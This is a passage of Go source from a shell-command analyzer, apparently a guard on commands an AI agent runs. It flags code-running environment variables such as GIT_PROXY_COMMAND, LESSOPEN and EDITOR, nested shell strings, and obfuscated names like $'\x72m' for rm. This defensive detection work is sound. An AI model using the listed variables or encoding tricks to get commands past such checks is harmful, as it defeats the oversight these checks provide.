		"GIT_PROXY_COMMAND": true, "GIT_CONFIG": true, "GIT_CONFIG_GLOBAL": true,
		"GIT_CONFIG_SYSTEM": true, "GIT_CONFIG_PARAMETERS": true, "GIT_CONFIG_COUNT": true,
		"LESSOPEN": true, "LESSCLOSE": true,
	}
}}

// editorEnv run their value as a command, but agents set them to a no-op
// so git does not wait for an editor (GIT_EDITOR=true git rebase …).
var editorEnv = lazy.Value[map[string]bool]{Build: func() map[string]bool {
	return map[string]bool{
		"EDITOR": true, "VISUAL": true, "GIT_EDITOR": true, "GIT_SEQUENCE_EDITOR": true,
		"PAGER": true, "GIT_PAGER": true,
	}
}}

// harmlessEditor reports an EDITOR-like value that runs nothing a
// person did not see: empty, a no-op, or a pager.
func harmlessEditor(value string) bool {
	switch value {
	case "", "true", ":", "cat", "less", "more":
		return true
	}
	return false
}

// envAssign judges NAME=value; static is false when value is computed.
func (a *shellAnalyzer) envAssign(name, value string, static bool) {
	switch {
	case codeEnv.Get()[name] || strings.HasPrefix(name, "GIT_CONFIG_KEY_") || strings.HasPrefix(name, "GIT_CONFIG_VALUE_"):
		a.res.danger("setting " + name + " can make a later command run other code")
	case editorEnv.Get()[name] && (!static || !harmlessEditor(value)):
		a.res.danger(name + " names a command that git or other tools run")
	case name == "GOFLAGS" && static && !strings.Contains(value, "exec"):
		// -mod=mod, -v, -race: only -exec and -toolexec run programs.
	case programEnv.Get()[name] != "":
		a.noPrefix("setting " + name + ", which " + programEnv.Get()[name])
	}
}

// envWithArg are env options (GNU and BSD) that take a separate value.
var envWithArg = lazy.Value[map[string]bool]{Build: func() map[string]bool {
	return set("-u", "--unset", "-C", "--chdir", "-a", "--argv0", "-P", "-L", "-U")
}}

// shellString judges a word that another program hands to a shell as code
// (su -c, flock -c, parallel ::: …).
func (a *shellAnalyzer) shellString(src string, depth int) {
	if src == dynWord {
		a.res.danger("a shell runs code computed when the line runs")
		return
	}
	a.nested(src, depth)
}

// parallel handles GNU parallel: `parallel [opts] cmd ::: args` runs cmd
// per argument; with no command the arguments (or input lines) are the
// commands.
func (a *shellAnalyzer) parallel(args []string, depth int) ([]string, bool, bool) {
	rest := skipOpts(args, parallelWithArg.Get())
	sep := len(rest)
	for i, w := range rest {
		if strings.HasPrefix(w, ":::") || strings.HasPrefix(w, "::::") {
			sep = i
			break
		}
	}
	if sep > 0 {
		if src, ok := joinStatic(rest[:sep]); ok {
			a.nested(src, depth)
		} else {
			a.res.danger("parallel runs a command computed when the line runs")
		}
		return nil, true, false
	}
	if sep == len(rest) {
		a.res.danger("parallel runs its input lines as commands")
		return nil, true, false
	}
	for _, w := range rest[sep+1:] {
		if !strings.HasPrefix(w, ":::") {
			a.shellString(w, depth)
		}
	}
	return nil, true, false
}

// shellStdin judges a shell that reads its script from a here-document or
// here-string: the body is the script.
func (a *shellAnalyzer) shellStdin(redirs []*syntax.Redirect, fromPipe bool, depth int) {
	for _, r := range redirs {
		switch r.Op {
		case syntax.RdrIn:
			// bash < <(cmd): the output of a command is the script.
			if r.Word != nil && len(r.Word.Parts) > 0 {
				if _, ok := r.Word.Parts[0].(*syntax.ProcSubst); ok {
					a.res.danger("a shell runs the output of a command as code")
				}
			}
		case syntax.Hdoc, syntax.DashHdoc:
			if body, ok := wordValue(r.Hdoc); ok {
				a.nested(body, depth)
			} else {
				a.res.danger("a shell runs a here-document with text computed when the line runs")
			}
		case syntax.WordHdoc:
			if body, ok := wordValue(r.Word); ok {
				a.nested(body, depth)
			} else {
				a.res.danger("a shell runs a here-string computed when the line runs")
			}
		}
	}
}

func (a *shellAnalyzer) nested(src string, depth int) {
	if err := a.script(src, depth+1); err != nil {
		a.res.danger("a shell runs code that could not be parsed")
		a.runsBeforeError(src, depth+1)
		a.crudeScan(src)
	}
}

// skipOpts drops leading options; withArg lists options that take a value.
func skipOpts(args []string, withArg map[string]bool) []string {
	i := 0
	for ; i < len(args); i++ {
		w := args[i]
		if w == "--" {
			return args[i+1:]
		}
		if !strings.HasPrefix(w, "-") || w == "-" {
			break
		}
		if withArg[w] {
			i++
		}
	}
	if i > len(args) {
		return nil
	}
	return args[i:]
}

func joinStatic(words []string) (string, bool) {
	for _, w := range words {
		if w == dynWord {
			return "", false
		}
	}
	return strings.Join(words, " "), true
}

// staticWords evaluates every word; dynamic ones become dynWord. ok is
// false when the command name itself is dynamic.
func staticWords(ws []*syntax.Word) ([]string, bool) {
	out := make([]string, len(ws))
	ok := true
	for i, w := range ws {
		v, static := wordValue(w)
		if !static {
			v = dynWord
			if i == 0 {
				ok = false
			}
		} else if i == 0 && hasUnquotedPattern(w) {
			ok = false
		}
		out[i] = v
	}
	return out, ok
}

// looksLikePattern reports glob or brace characters in a command name that
// has lost its quoting (an inner command of a wrapper), erring on the side
// of a pattern. A [ without a later ] is the test command, not a pattern.
func looksLikePattern(name string) bool {
	if strings.ContainsAny(name, "*?{") {
		return true
	}
	i := strings.IndexByte(name, '[')
	return i >= 0 && strings.IndexByte(name[i:], ']') >= 0
}

// hasUnquotedPattern reports glob or brace characters outside quotes, which
// the shell expands (/bin/r? may become /bin/rm).
func hasUnquotedPattern(w *syntax.Word) bool {
	for _, p := range w.Parts {
		if l, ok := p.(*syntax.Lit); ok {
			v := l.Value
			for i := 0; i < len(v); i++ {
				if v[i] == '\\' {
					i++
					continue
				}
				switch v[i] {
				case '*', '?', '{':
					return true
				case '[':
					// A bracket expression needs its ]; the test
					// command [ alone is a literal name.
					if strings.IndexByte(v[i+1:], ']') >= 0 {
						return true
					}
				}
			}
		}
	}
	return false
}

// wordValue returns the value of a word after quote removal, or false when
// part of it is only known at run time.
func wordValue(w *syntax.Word) (string, bool) {
	if w == nil {
		return "", false
	}
	var b strings.Builder
	for _, p := range w.Parts {
		switch p := p.(type) {
		case *syntax.Lit:
			b.WriteString(unescapeUnquoted(p.Value))
		case *syntax.SglQuoted:
			if p.Dollar {
				b.WriteString(ansiC(p.Value))
			} else {
				b.WriteString(p.Value)
			}
		case *syntax.DblQuoted:
			for _, q := range p.Parts {
				l, ok := q.(*syntax.Lit)
				if !ok {
					return "", false
				}
				b.WriteString(unescapeDouble(l.Value))
			}
		default:
			return "", false
		}
	}
	return b.String(), true
}

func unescapeUnquoted(s string) string {
	if !strings.Contains(s, "\\") {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) {
			i++
			if s[i] == '\n' {
				continue
			}
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

func unescapeDouble(s string) string {
	if !strings.Contains(s, "\\") {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) && strings.IndexByte("$`\"\\\n", s[i+1]) >= 0 {
			i++
			if s[i] == '\n' {
				continue
			}
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// ansiC decodes $'…' strings, where $'\x72m' spells rm.
func ansiC(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c != '\\' || i+1 >= len(s) {
			b.WriteByte(c)
			continue
		}
		i++
		switch e := s[i]; e {
		case 'n':
			b.WriteByte('\n')
		case 't':
			b.WriteByte('\t')
		case 'r':
			b.WriteByte('\r')
		case 'a':
			b.WriteByte(7)
		case 'b':
			b.WriteByte(8)
		case 'e', 'E':
			b.WriteByte(27)
		case 'f':
			b.WriteByte(12)
		case 'v':
			b.WriteByte(11)
		case 'c':
			if i+1 < len(s) {
				i++
				b.WriteByte(s[i] & 0x1f)
			}
		case 'x', 'u', 'U':
			max := 2
			switch e {
			case 'u':
				max = 4
			case 'U':
				max = 8
			}
			j := i + 1
			for j < len(s) && j-i-1 < max && isHex(s[j]) {
				j++
			}
			if j == i+1 {
				b.WriteByte('\\')
				b.WriteByte(e)
				continue
			}
			n, _ := strconv.ParseUint(s[i+1:j], 16, 32)
			if e == 'x' {
				b.WriteByte(byte(n))
			} else {
				b.WriteRune(rune(n))
			}
			i = j - 1
		case '0', '1', '2', '3', '4', '5', '6', '7':
			j := i
			for j < len(s) && j-i < 3 && s[j] >= '0' && s[j] <= '7' {
				j++
			}
			n, _ := strconv.ParseUint(s[i:j], 8, 16)
			b.WriteByte(byte(n))
			i = j - 1
		default:
			b.WriteByte(e)
		}
	}
	if !utf8.ValidString(b.String()) {
		return strings.ToValidUTF8(b.String(), "\uFFFD")
	}
	return b.String()
}

func isHex(c byte) bool {
	return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F')
}

// controlTarget reports whether a file the line writes is a control file,
// expanding a leading ~/ as the shell would.
func (a *shellAnalyzer) controlTarget(target string) (string, bool) {
	if a.control == nil {
		return "", false
	}
	if strings.HasPrefix(target, "~/") {
		if home, err := os.UserHomeDir(); err == nil {
			target = filepath.Join(home, target[2:])
		}
	}
	if name, ok := a.control(target); ok {
		return name, ok
	}
	// After a static cd the shell resolves relative names from there;
	// every directory the line may have changed to is tried.
	if !filepath.IsAbs(target) {
		for _, d := range a.cds {
			if name, ok := a.control(filepath.Join(d, target)); ok {
				return name, ok
			}
		}
	}
	return "", false
}

// chdir records a static `cd dir` as a directory later relative names
// may be resolved from (relative to the workspace and to earlier ones).
func (a *shellAnalyzer) chdir(dir string) {
	if dir == "" || dir == dynWord || dir == "-" || strings.HasPrefix(dir, "~") || len(a.cds) >= 16 {
		return
	}
	bases := append([]string{a.dir}, a.cds...)
	for _, b := range bases {
		d := dir
		if !filepath.IsAbs(d) {
			d = filepath.Join(b, d)
		}
		a.cds = append(a.cds, filepath.Clean(d))
	}
}

// tmpdirWord evaluates a word that starts with $TMPDIR (or ${TMPDIR},
// quoted or not) followed by static text, when the run has a private
// temporary directory: children get TMPDIR set to it, so the word's value
// is known. Text that climbs out with .. is not accepted.
func tmpdirWord(w *syntax.Word, tmpdir string) (string, bool) {
	if tmpdir == "" || w == nil || len(w.Parts) == 0 {
		return "", false
	}
	parts := w.Parts
	lead := ""
	if l, ok := parts[0].(*syntax.Lit); ok && len(parts) > 1 && strings.HasSuffix(l.Value, "=") && !strings.ContainsAny(l.Value, "\\$`") {
		// --output=$TMPDIR/x: an option spelling before the name.
		lead, parts = l.Value, parts[1:]
	}
	var inner []syntax.WordPart
	if dq, ok := parts[0].(*syntax.DblQuoted); ok {
		inner = dq.Parts
	} else {
		inner = parts[:1]
	}
	if len(inner) == 0 {
		return "", false
	}
	pe, ok := inner[0].(*syntax.ParamExp)
	if !ok || pe.Param == nil || pe.Param.Value != "TMPDIR" || pe.Exp != nil || pe.Index != nil ||
		pe.Slice != nil || pe.Repl != nil || pe.Names != 0 || pe.Excl || pe.Length || pe.Width {
		return "", false
	}
	var b strings.Builder
	b.WriteString(tmpdir)
	// The rest of the first (quoted) part, then the remaining parts.
	rest := &syntax.Word{}
	if _, ok := parts[0].(*syntax.DblQuoted); ok {
		rest.Parts = append(rest.Parts, &syntax.DblQuoted{Parts: inner[1:]})
	}
	rest.Parts = append(rest.Parts, parts[1:]...)
	tail, ok := wordValue(rest)
	if !ok {
		return "", false
	}
	if tail != "" && !strings.HasPrefix(tail, "/") {
		return "", false // $TMPDIRx is another name
	}
	b.WriteString(tail)
	v := b.String()
	if !within(filepath.Clean(v), filepath.Clean(tmpdir)) {
		return "", false
	}
	return lead + v, true
}

// inTmp reports a path beneath the run's private temporary directory.
func (a *shellAnalyzer) inTmp(p string) bool {
	if a.tmpdir == "" || !filepath.IsAbs(p) {
		return false
	}
	return within(filepath.Clean(p), filepath.Clean(a.tmpdir))
}
